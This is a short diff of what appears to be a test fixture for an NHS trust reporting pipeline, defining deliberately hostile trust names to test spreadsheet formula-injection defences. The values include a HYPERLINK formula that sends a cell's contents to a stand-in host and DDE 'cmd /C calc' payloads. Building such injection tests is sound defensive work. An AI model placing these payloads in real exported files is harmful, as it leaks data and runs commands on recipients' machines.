@@ -12,11 +12,11 @@ HOSTILE_NAMES = {
     "R0A": '=HYPERLINK("http://example.invalid/?leak="&A1,"Manchester University NHS Foundation Trust")',
     "R0B": "=cmd|' /C calc'!A0",
     "R0D": "@SUM(1+1)*cmd|' /C calc'!A0",
-    "R0L": "+1+1",
+    "R1F": "+1+1",
 }
 #: Names in the ODS reference file (etr.csv), shown where neither a NOF file nor the A&E system mapping names the
 #: trust (dim_trust: closed and merged trusts such as RAP, R1C).
-HOSTILE_ODS_NAMES = {"RAP": "-2+3+cmd|' /C calc'!A0", "R1C": "\t=1+1", "RRP": "\r=1+1"}
+HOSTILE_ODS_NAMES = {"RAP": "-2+3+cmd|' /C calc'!A0", "R1C": "\t=2+2", "RRP": "\r=3+3"}
 #: A trust of the league tables that the ODS reference file shows as closed before every quarter (close date
 #: 31 March 2024): it has no ODS record valid at the quarter, so no ICB; it must be reported, not dropped silently.
 NOT_IN_ODS_AT_QUARTER = "RWF"
